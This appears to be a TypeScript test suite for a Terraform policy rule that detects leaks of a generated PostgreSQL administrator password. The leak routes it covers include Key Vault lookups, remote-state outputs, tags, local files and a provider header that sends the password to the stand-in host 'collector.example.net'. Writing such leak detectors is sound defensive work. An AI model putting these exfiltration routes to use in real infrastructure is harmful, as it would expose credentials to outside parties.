      data: { azurerm_key_vault_secret: Object.fromEntries(Object.entries(lookups).map(([name, lookupVault]) => [name, beside({ name: '${var.n}', key_vault_id: lookupVault })])) },
    }, {}, stack({
      azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: vault, value_wo: `\${${GENERATOR}.result}` } },
      azurerm_key_vault: {
        orders: beside({ name: 'KV-Orders', resource_group_name: 'rg-orders', location: 'westeurope', tenant_id: 't', sku_name: 'standard' }),
        other: beside({ name: 'kv-other', resource_group_name: 'rg-orders', location: 'westeurope', tenant_id: 't', sku_name: 'standard' }),
        unnamed: beside({ name: '${var.vault_name}', resource_group_name: 'rg-orders', location: 'westeurope', tenant_id: 't', sku_name: 'standard' }),
      },
      local_file: Object.fromEntries(Object.keys(lookups).map((name) => [name, beside({ filename: name, content: `\${data.azurerm_key_vault_secret.${name}.value}` })])),
    }));
    const read = (name: string) => later(`local_file.${name}`, `data.azurerm_key_vault_secret.${name}`, 'name "${var.n}" is');

    test('fails a lookup in a vault of the same name (the vault the stack makes, a template of its ID, the ID with a trailing slash or in another case), or in the same expression', () => {
      expect(inVault(VAULT, {
        made: '${azurerm_key_vault.orders.id}',
        template: '/subscriptions/${var.subscription}/resourceGroups/rg-orders/providers/Microsoft.KeyVault/vaults/kv-orders',
        slash: `${VAULT.toUpperCase()}/`,
      })).toEqual([read('made'), read('slash'), read('template')]);
      expect(inVault('${var.key_vault_id}', { same: '${var.key_vault_id}' })).toEqual([read('same')]);
    });

    test('passes a lookup in a vault known to be another: another name, another vault the stack makes (whatever its name)', () => {
      expect(inVault(VAULT, {
        made: '${azurerm_key_vault.other.id}',
        template: '/subscriptions/${var.subscription}/resourceGroups/rg-orders/providers/Microsoft.KeyVault/vaults/kv-other',
      })).toEqual([{ status: 'pass' }]);
      expect(inVault('${azurerm_key_vault.orders.id}', { made: '${azurerm_key_vault.unnamed.id}' })).toEqual([{ status: 'pass' }]);
    });

    // A known vault (a literal ID, a vault looked up by a literal name, a vault the stack makes) compared with one
    // known only at apply time may be it: the variable may be set to its ID (fifteenth review, A14b-6).
    test('fails a lookup in a known vault (looked up by a literal name, by a literal ID, made by the stack) beside a secret whose vault is a variable', () => {
      const lookups = { found: '${data.azurerm_key_vault.found.id}', counted: '${data.azurerm_key_vault.counted[0].id}', literal: VAULT, made: '${azurerm_key_vault.other.id}' };
      expect(verdictsWith({
        data: {
          azurerm_key_vault: { found: beside({ name: 'kv-orders', resource_group_name: 'rg-orders' }), counted: beside({ count: 1, name: 'kv-orders', resource_group_name: 'rg-orders' }) },
          azurerm_key_vault_secret: Object.fromEntries(Object.entries(lookups).map(([name, vault]) => [name, beside({ name: 's', key_vault_id: vault })])),
        },
      }, {}, stack({
        azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: '${var.key_vault_id}', value_wo: `\${${GENERATOR}.result}` } },
        azurerm_key_vault: { other: beside({ name: 'kv-other', resource_group_name: 'rg-orders', location: 'westeurope', tenant_id: 't', sku_name: 'standard' }) },
        local_file: Object.fromEntries(Object.keys(lookups).map((name) => [name, beside({ filename: name, content: `\${data.azurerm_key_vault_secret.${name}.value}` })])),
      }))).toEqual([
        later('local_file.counted', 'data.azurerm_key_vault_secret.counted', 'key_vault_id "${data.azurerm_key_vault.counted[0].id}" is'),
        later('local_file.found', 'data.azurerm_key_vault_secret.found', 'key_vault_id "${data.azurerm_key_vault.found.id}" is'),
        later('local_file.literal', 'data.azurerm_key_vault_secret.literal', `key_vault_id ${JSON.stringify(VAULT)} (the secret's: "\${var.key_vault_id}") is`),
        later('local_file.made', 'data.azurerm_key_vault_secret.made', 'key_vault_id "${azurerm_key_vault.other.id}" is'),
      ]);
    });

    test('passes a lookup in another vault beside a secret in a vault looked up by a literal name: another literal name, another vault looked up', () => {
      expect(verdictsWith({
        data: {
          azurerm_key_vault: { orders: beside({ name: 'kv-orders', resource_group_name: 'rg-orders' }), other: beside({ name: 'kv-other', resource_group_name: 'rg-orders' }) },
          azurerm_key_vault_secret: { other: beside({ name: 's', key_vault_id: '${data.azurerm_key_vault.other.id}' }), literal: beside({ name: 's', key_vault_id: VAULT.replace('kv-orders', 'kv-app') }) },
        },
      }, {}, stack({
        azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: '${data.azurerm_key_vault.orders.id}', value_wo: `\${${GENERATOR}.result}` } },
        local_file: { other: beside({ filename: 'o', content: '${data.azurerm_key_vault_secret.other.value}' }), literal: beside({ filename: 'l', content: '${data.azurerm_key_vault_secret.literal.value}' }) },
      }))).toEqual([{ status: 'pass' }]);
    });

    test('fails a lookup in a vault known only at apply time beside a secret in a vault the stack makes', () => {
      expect(inVault('${azurerm_key_vault.orders.id}', { later: '${var.vault}' })).toEqual([later('local_file.later', 'data.azurerm_key_vault_secret.later', 'name "${var.n}" and key_vault_id "${var.vault}" are')]);
    });
  });

  test('passes a lookup whose name is a variable beside a construct that vaults no password', () => {
    const base = stack();
    delete base.azurerm_key_vault_secret;
    expect(verdictsWith({ data: { azurerm_key_vault_secret: { look: beside({ name: '${var.n}', key_vault_id: 'kv' }) } } }, {}, { ...base, ...leak('data.azurerm_key_vault_secret.look') }))
      .toEqual([{ status: 'pass' }]);
  });
});

// A block with count or for_each is read by an instance key (`look["a"]`, `look[0]`, `look[each.key]`): the
// attribute comes after the key, so a key is never taken for the attribute read (fourteenth review, A14b-3).
describe('the password read through an instance of a lookup with count or for_each (fourteenth review, A14b-3)', () => {
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/reader'), ...block });
  /** The PG-IAM-4 failures of a stack, as evaluateStack reads it (the references in their one spelling first). */
  function failures(sections: TerraformBlock, extra: Resources): string[] {
    const terraform = {
      ...sections,
      resource: stack(extra),
      '//': { [CONSTRUCTS_KEY]: [CONSTRUCT], [MADE_KEY]: [`${CONSTRUCT}/Server`, `${CONSTRUCT}/AdministratorPassword/Password`, `${CONSTRUCT}/AdministratorPassword/Secret`] },
    };
    return evaluateStack(terraform, [rule]).findings.filter((f) => f.status === 'fail').map((f) => f.address!);
  }
  const tags = (leaks: { [name: string]: string }) => ({
    azurerm_resource_group: Object.fromEntries(Object.entries(leaks).map(([name, leak]) => [name, beside({ name: `rg-${name}`, location: 'westeurope', tags: { leak } })])),
  });

  test('fails a read of the value of a for_each lookup of the construct\'s secret by a key, in any spelling, and of a counted one', () => {
    expect(failures({
      data: {
        azurerm_key_vault_secret: {
          keyed: beside({ for_each: { a: 's' }, name: '${each.value}', key_vault_id: 'kv' }),
          counted: beside({ count: 1, name: 's', key_vault_id: 'kv' }),
        },
      },
    }, tags({
      quoted: '${data.azurerm_key_vault_secret.keyed["a"].value}',
      spaced: '${data.azurerm_key_vault_secret.keyed [ "a" ] ["value"]}',
      iterated: '${data.azurerm_key_vault_secret.keyed[each.key].value}',
      looked: '${lookup(data.azurerm_key_vault_secret.keyed, "a").value}',
      splat: '${values(data.azurerm_key_vault_secret.keyed)[*].value}',
      counted: '${data.azurerm_key_vault_secret.counted[0].value}',
    }))).toEqual(['azurerm_resource_group.counted', 'azurerm_resource_group.iterated', 'azurerm_resource_group.looked', 'azurerm_resource_group.quoted', 'azurerm_resource_group.spaced', 'azurerm_resource_group.splat']);
  });

  test('fails an output of the password read back through a for_each terraform_remote_state by a key', () => {
    expect(failures({
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true } },
      data: { terraform_remote_state: { self: { for_each: { a: 'x' }, backend: 'local', config: { path: 'terraform.tfstate' } } } },
    }, tags({
      quoted: '${data.terraform_remote_state.self["a"].outputs.pw}',
      looked: '${lookup(data.terraform_remote_state.self, "a").outputs["pw"]}',
    }))).toEqual(['azurerm_resource_group.looked', 'azurerm_resource_group.quoted']);
  });

  test('passes a read of another attribute of an instance, or of another output', () => {
    expect(failures({
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, name: { value: 'orders' } },
      data: {
        azurerm_key_vault_secret: { keyed: beside({ for_each: { a: 's' }, name: '${each.value}', key_vault_id: 'kv' }) },
        terraform_remote_state: { self: { for_each: { a: 'x' }, backend: 'local', config: { path: 'terraform.tfstate' } } },
      },
    }, tags({
      name: '${data.azurerm_key_vault_secret.keyed["value"].name}',
      output: '${data.terraform_remote_state.self["outputs"].outputs.name}',
    }))).toEqual([]);
  });
});

describe('an output and a provider block name what they read of the password alike (one reading of both)', () => {
  const SELF = { backend: 'local', config: { path: 'terraform.tfstate' } };
  test.each([
    ['the password', `\${${GENERATOR}.result}`, GENERATOR],
    ['its copy read back from a state', '${data.terraform_remote_state.self.outputs.pw}', `${GENERATOR} through output.pw, read back by data.terraform_remote_state.self (a state the checks cannot tell from this stack's)`],
    ['the value of its Key Vault secret', '${azurerm_key_vault_secret.own.value}', `the value of a Key Vault secret written from ${GENERATOR}`],
    ['a lookup of its Key Vault secret', '${data.azurerm_key_vault_secret.look.value}', `the value of data.azurerm_key_vault_secret.look, a lookup by the name and vault of the Key Vault secret written from ${GENERATOR}`],
  ])('%s', (_name, value, what) => {
    const terraform = {
      resource: stack({ restapi_object: { probe: { ...madeAt('stack/probe'), path: '/x', data: '{}' } } }),
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, shown: { value } },
      data: { terraform_remote_state: { self: SELF }, azurerm_key_vault_secret: { look: { name: '${azurerm_key_vault_secret.own.name}', key_vault_id: 'kv' } } },
      provider: { restapi: [{ uri: 'https://collector.example.net', headers: { 'X-Key': value } }] },
    };
    const model = buildStackModel(terraform);
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const verdicts = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT], providers: providerConfigurations(terraform) }) as Verdict[];
    const reads = verdicts.map((verdict) => /^(output\.shown|provider restapi) reads (.*), a password /.exec('message' in verdict ? verdict.message ?? '' : '')?.[2]);
    expect(reads).toEqual([what, what]);
  });
});
